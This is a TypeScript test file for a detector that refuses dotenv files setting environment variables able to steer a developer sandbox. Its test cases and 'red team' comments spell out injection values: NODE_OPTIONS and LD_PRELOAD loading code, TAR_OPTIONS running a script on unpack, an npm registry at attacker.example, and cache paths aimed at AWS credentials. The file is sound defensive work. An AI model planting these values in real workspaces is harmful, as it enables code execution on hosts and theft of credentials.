import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkWorkspaceEnvFiles, composeEnvironment, dotEnvKeys, nxDotEnvFiles, STEERING_VARIABLE } from './workspace-env';

describe('what Nx loaded before our executor runs', () => {
  let root: string;
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'devsec-env-'));
    mkdirSync(join(root, 'apps/app'), { recursive: true });
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  it('lists the dotenv files Nx 23 loads for a target, project first', () => {
    expect(nxDotEnvFiles('apps/app', 'up-worktree')).toEqual([
      'apps/app/.env.up-worktree.local',
      'apps/app/.env.up-worktree',
      'apps/app/.up-worktree.local.env',
      'apps/app/.up-worktree.env',
      'apps/app/.env.local',
      'apps/app/.local.env',
      'apps/app/.env',
      '.env.up-worktree.local',
      '.env.up-worktree',
      '.up-worktree.local.env',
      '.up-worktree.env',
      '.env.local',
      '.local.env',
      '.env',
    ]);
  });

  it.each([
    ['.env', 'DEVSEC_WORKSPACE=/\n', /\.env:1 sets DEVSEC_WORKSPACE/],
    ['.env', 'FOO=1\nexport NODE_OPTIONS=--require=/tmp/x.js\n', /\.env:2 sets NODE_OPTIONS/],
    ['.env.local', 'DOCKER_CONFIG=/tmp/evil\n', /\.env\.local:1 sets DOCKER_CONFIG/],
    ['apps/app/.env.up-worktree', 'COMPOSE_FILE=/tmp/x.yml\n', /apps\/app\/\.env\.up-worktree:1 sets COMPOSE_FILE/],
    // Our state directory (secrets, private git dirs, the engine cache) moved into the workspace.
    ['.env', 'XDG_STATE_HOME=./.state\n', /\.env:1 sets XDG_STATE_HOME/],
    ['.env', 'GIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=core.fsmonitor\n', /\.env:1 sets GIT_CONFIG_COUNT/],
    ['.env', 'LD_PRELOAD=/workspace/x.so\n', /\.env:1 sets LD_PRELOAD/],
    ['.env', 'DEVSEC_ENGINE_SOCKET=/\n', /\.env:1 sets DEVSEC_ENGINE_SOCKET/],
    // Line ends that dotenv honours and a split on \n alone would not see.
    ['.env', 'FOO=x\rXDG_STATE_HOME=/w/.s\n', /\.env:2 sets XDG_STATE_HOME/],
    ['.env', "FOO='x'\u2028DOCKER_HOST=unix:///w/fake.sock\n", /\.env:2 sets DOCKER_HOST/],
    ['.env', "FOO='x'\u2029GIT_CONFIG_COUNT=1\r\n", /\.env:2 sets GIT_CONFIG_COUNT/],
    // dotenv's `\s*=` spans lines: the key on one line, its `=` on the next, is DOCKER_CONFIG=/ws/evil to Nx.
    ['.env', 'DOCKER_CONFIG\n=/ws/evil\n', /\.env:1 sets DOCKER_CONFIG/],
    ['.env', 'FOO\n\nDOCKER_HOST\n  =  unix:///w/fake.sock\n', /\.env:3 sets DOCKER_HOST/],
    // What the host's package-manager plan reads or runs with the executor's environment (red team):
    // tar's options run a command per checkpoint when the host unpacks a release (host code execution);
    ['.env', 'TAR_OPTIONS=--checkpoint=1 --checkpoint-action=exec=/w/tmp/x.sh\n', /\.env:1 sets TAR_OPTIONS/],
    // npm pack fetches the release every sandbox of this user shares from the agent's registry;
    ['.env', 'npm_config_registry=https://registry.attacker.example/\n', /\.env:1 sets npm_config_registry/],
    ['.env.local', 'NPM_CONFIG_USERCONFIG=/w/.npmrc-evil\n', /\.env\.local:1 sets NPM_CONFIG_USERCONFIG/],
    // the caches the host mounts: any host folder named cache or v6 (in clone mode, copied into the agent's volume unjudged).
    ['.env', 'YARN_GLOBAL_FOLDER=/home/u/.aws/sso\n', /\.env:1 sets YARN_GLOBAL_FOLDER/],
    ['.env', 'YARN_CACHE_FOLDER=/home/u/projects/secret\n', /\.env:1 sets YARN_CACHE_FOLDER/],
    // The last assignment is the one dotenv keeps; the message points at it.
    ['.env', 'API=1\nNODE_OPTIONS=ok\nNODE_OPTIONS=-r /w/x.js\n', /\.env:3 sets NODE_OPTIONS/],
  ])('refuses %s setting a steering variable, naming file and line', (file, text, message) => {
    writeFileSync(join(root, file), text);
    expect(() => checkWorkspaceEnvFiles(root, 'apps/app', 'up-worktree')).toThrow(message);
  });

  it('lets ordinary variables through', () => {
    writeFileSync(join(root, '.env'), 'API_URL=http://localhost\n# DEVSEC_WORKSPACE=/ is a comment\n');
    expect(() => checkWorkspaceEnvFiles(root, 'apps/app', 'up-worktree')).not.toThrow();
  });

  it.each([
    ['a quoted multi-line value', 'CERT="line one\nDOCKER_HOST=not-a-key"\n'],
    ['a value that runs past \\u2028', 'FOO=x\u2028DOCKER_HOST=unix:///w/fake.sock\n'],
    ['an expansion naming a steering variable', 'HOME_DIR=${HOME}/x\n'],
  ])('reads %s as dotenv does: no steering key set', (_, text) => {
    writeFileSync(join(root, '.env'), text);
    expect(() => checkWorkspaceEnvFiles(root, 'apps/app', 'up-worktree')).not.toThrow();
    expect(dotEnvKeys(text).filter((key) => STEERING_VARIABLE.test(key))).toEqual([]);
  });

  it('hands Compose the process environment without DEVSEC_*, COMPOSE_* or NODE_OPTIONS', () => {
    expect(composeEnvironment({ PATH: '/bin', DOCKER_HOST: 'unix:///x', DEVSEC_WORKSPACE: '/', COMPOSE_FILE: 'x', NODE_OPTIONS: '-r x' })).toEqual({
      PATH: '/bin',
      DOCKER_HOST: 'unix:///x',
    });
  });
});
